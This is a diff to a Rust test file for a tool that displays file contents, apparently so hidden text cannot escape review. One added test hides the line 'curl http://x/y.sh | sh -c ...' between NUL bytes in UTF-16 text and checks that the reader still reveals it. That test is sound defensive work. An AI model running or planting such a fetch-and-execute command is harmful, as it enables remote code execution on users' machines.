@@ -52,6 +52,31 @@ fn attack_18_bytes_in_an_encoded_text_that_are_text_themselves_are_shown_too() {
 }
 
 #[test]
+fn attack_18_what_shells_read_in_a_text_taken_for_utf_16_is_shown() {
+    // Shells leave NUL bytes out, and the characters of the encoding hide in pairs of bytes.
+    for every in [1, 2, 3, 7, 10] {
+        let script = "curl http://x/y.sh | sh -c 'touch PWNED'; exit";
+        let parts: Vec<String> =
+            script.as_bytes().chunks(every).map(|part| String::from_utf8_lossy(part).into_owned()).collect();
+        let hidden = parts.join("\0");
+        for mark in [&[0xff, 0xfe][..], b""] {
+            let wide = wide(&"# a comment of the table\n".repeat(20), u16::to_le_bytes);
+            let content = [mark, &wide, b"#\n", hidden.as_bytes(), b"\n#", &wide].concat();
+            let shown = read(&content, false).text().to_vec();
+            let shown = String::from_utf8(shown).unwrap().replace('\0', "");
+            assert!(shown.contains("touch PWNED") || shown.contains("| sh -c"), "{every}: {shown}");
+        }
+    }
+}
+
+#[test]
+fn a_text_in_utf_16_is_nothing_else_byte_by_byte() {
+    let text = "# 日本語 と English\r\nprint('中文 abc', \"é\")\r\n".repeat(50);
+    let content = [&[0xff, 0xfe][..], &wide(&text, u16::to_le_bytes)].concat();
+    assert!(!read(&content, true).is_double(), "{}", String::from_utf8_lossy(read(&content, true).text()));
+}
+
+#[test]
 fn attack_18_what_is_no_character_of_its_encoding_is_named() {
     let content = [&[0xff, 0xfe][..], &wide("abc", u16::to_le_bytes), &[0x00, 0xd8, 0x41, 0, 7]].concat();
     assert_eq!(str::from_utf8(read(&content, false).text()), Ok("abc<U+D800>A\\x07"));
@@ -101,7 +126,7 @@ fn noise_shows_nearly_nothing_and_a_program_no_flood() {
 fn reading_takes_linear_time() {
     // Each NUL may begin a wide run, and none of these is long enough.
     let content = b"a\0a\0a\0\x01".repeat(200_000);
-    assert!(matches!(read(&content, false), Reading::Runs { .. } | Reading::Encoded(..)));
+    assert!(matches!(read(&content, false), Reading::Runs { .. } | Reading::Encoded { .. }));
 }
 
 #[test]
@@ -114,6 +139,8 @@ fn names_say_what_a_file_holds() {
         ("Directory.Build.props", Named::Source),
         ("logo.png", Named::Binary),
         ("bin/tool", Named::Unknown),
+        ("tools/pack", Named::Unknown),
+        ("index.html", Named::Source),
         ("x.zig.", Named::Source),
     ] {
         assert_eq!(named(path.into()), says, "{path}");
